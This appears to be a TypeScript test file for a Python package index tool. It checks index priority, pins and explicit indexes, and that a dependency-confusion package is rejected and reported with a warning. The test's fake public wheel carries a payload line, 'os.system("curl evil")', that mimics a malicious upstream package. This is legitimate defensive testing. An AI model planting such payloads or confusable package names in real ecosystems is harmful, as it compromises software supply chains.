/**
 * Several indexes with explicit priority, through the real CLI against
 * three real `pyindex serve` instances: the first-index rule (a project
 * found on an earlier index is never merged with a later one's versions),
 * `packages:` pins, `explicit` indexes, the per-package `index` in the
 * lockfile, and the dependency-confusion warning — a later index listing the
 * same name with a higher version is not taken, and the warning is printed
 * and in --json. Then `pyindex fetch` gets every file from its own index.
 */
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { readLockfile } from '../../src/lock/read.js';
import { runCli } from '../helpers/cli.js';
import { jsonEvents, serveTree, writeTree } from '../helpers/mirror-kit.js';
import { makeWheel } from '../helpers/serve-dists.js';

const PROFILE = 'linux-x86_64-py3.11';

function config(internal: string, pub: string, extra: string, requires: string[]): string {
  return `indexes:
  - name: internal
    url: ${internal}
  - name: public
    url: ${pub}
  - name: extra
    url: ${extra}
    explicit: true
packages:
  Torchy: extra
jobs:
  ci:
    requires: ${JSON.stringify(requires)}
    profiles: [${PROFILE}]
`;
}

t.test('first-index rule, pins, explicit index, dependency-confusion warning; fetch from each index', async (t) => {
  const dir = t.testdir({});
  await writeTree(join(dir, 'internal'), [
    makeWheel({ name: 'corp-utils', version: '1.0' }),
    makeWheel({ name: 'app', version: '1.0', requires: ['corp-utils', 'shared-lib'] }),
    makeWheel({ name: 'shared-lib', version: '1.0' }),
  ]);
  await writeTree(join(dir, 'public'), [
    // The attack: the internal name, published upstream with a higher version.
    makeWheel({ name: 'corp-utils', version: '99.0', payload: 'import os; os.system("curl evil")' }),
    makeWheel({ name: 'shared-lib', version: '2.0' }),
    makeWheel({ name: 'requests-lite', version: '2.0', requires: ['shared-lib>=1'] }),
    makeWheel({ name: 'torchy', version: '1.0' }),
  ]);
  await writeTree(join(dir, 'extra'), [makeWheel({ name: 'torchy', version: '5.0' }), makeWheel({ name: 'only-extra', version: '1.0' })]);
  const [internal, pub, extra] = await Promise.all([serveTree(t, join(dir, 'internal')), serveTree(t, join(dir, 'public')), serveTree(t, join(dir, 'extra'))]);
  const env = { PYINDEX_CACHE_DIR: join(dir, 'cache') };

  writeFileSync(join(dir, 'pyindex.yaml'), config(internal.simple, pub.simple, extra.simple, ['app', 'requests-lite', 'torchy']));
  const res = await runCli(['lock', '--json'], { cwd: dir, env });
  t.equal(res.code, 0, res.stderr);
  const summary = JSON.parse(res.stdout) as { origins: Record<string, string>; confusion: { project: string; version: string; index: string; laterIndex: string; laterVersion: string; highest: string }[] };
  const lock = readLockfile(join(dir, 'pyindex.lock.yaml'));
  const pins = Object.fromEntries(lock.packages.map((p) => [p.name, [p.version, p.index]]));
  t.same(
    pins,
    {
      app: ['1.0', internal.simple],
      'corp-utils': ['1.0', internal.simple],
      'requests-lite': ['2.0', pub.simple],
      'shared-lib': ['1.0', internal.simple],
      torchy: ['5.0', extra.simple],
    },
    'corp-utils and shared-lib from the internal index only (never 99.0 / 2.0); requests-lite from public; torchy from its pinned, explicit index',
  );
  t.equal(lock.index, internal.simple, 'the lock-level index is the first one');
  for (const p of lock.packages) for (const f of p.files) t.ok(f.url.startsWith(p.index!.replace(/simple\/$/, '')), `${f.filename}: URL hint on its own index`);
  t.same(summary.origins, { app: internal.simple, 'corp-utils': internal.simple, 'requests-lite': pub.simple, 'shared-lib': internal.simple, torchy: extra.simple });
  t.same(
    summary.confusion.map((w) => [w.project, w.version, w.index, w.highest, w.laterIndex, w.laterVersion]),
    [
      ['corp-utils', '1.0', internal.simple, '1.0', pub.simple, '99.0'],
      ['shared-lib', '1.0', internal.simple, '1.0', pub.simple, '2.0'],
    ],
    'the confusion signal in --json: a later index lists a higher version; the pinned torchy is not reported',
  );
  t.match(res.stderr, /warning: corp-utils: locked 1\.0 from http:\S+ \(highest there 1\.0\), but http:\S+ lists 99\.0 — not taken \(first-index rule\)/, 'and printed');
  t.notMatch(res.stderr, /warning: torchy/);

  const human = await runCli(['lock'], { cwd: dir, env });
  t.equal(human.code, 0, human.stderr);
  t.match(human.stdout, `from ${internal.simple}: app, corp-utils, shared-lib`, 'the human summary says where each project came from');
  t.match(human.stdout, `from ${pub.simple}: requests-lite`);
  t.match(human.stdout, `from ${extra.simple}: torchy`);
  t.match(human.stdout, /unchanged .*pyindex\.lock\.yaml/);
  t.match(human.stderr, /warning: shared-lib: locked 1\.0/);

  // PEP 751: each package's `index` is the one it came from.
  const pylock = await runCli(['export', '--job', 'ci', '--profile', PROFILE, '--format', 'pylock'], { cwd: dir, env });
  t.equal(pylock.code, 0, pylock.stderr);
  t.match(pylock.stdout, `name = "corp-utils"\nversion = "1.0"\nindex = "${internal.simple}"`);
  t.match(pylock.stdout, `name = "requests-lite"\nversion = "2.0"\nindex = "${pub.simple}"`);

  const wheelhouse = join(dir, 'wh');
  const fetched = await runCli(['fetch', '--wheelhouse', wheelhouse, '--json'], { cwd: dir, env });
  t.equal(fetched.code, 0, fetched.stderr);
  const requested = jsonEvents(fetched.stderr).flatMap((e) => (e.type === 'index:request' ? [e.url] : []));
  for (const p of lock.packages) {
    const f = p.files[0]!;
    t.equal(createHash('sha256').update(readFileSync(join(wheelhouse, f.filename))).digest('hex'), f.sha256, `${f.filename} fetched and verified`);
    t.ok(requested.some((u) => u === f.url), `${f.filename} downloaded from its own index`);
  }

  // Unpinned, a project only an explicit index has is found nowhere.
  writeFileSync(join(dir, 'pyindex.yaml'), config(internal.simple, pub.simple, extra.simple, ['only-extra']));
  const nowhere = await runCli(['lock'], { cwd: dir, env });
  t.equal(nowhere.code, 1, 'no solution');
  t.match(nowhere.stderr, /only-extra/);
});
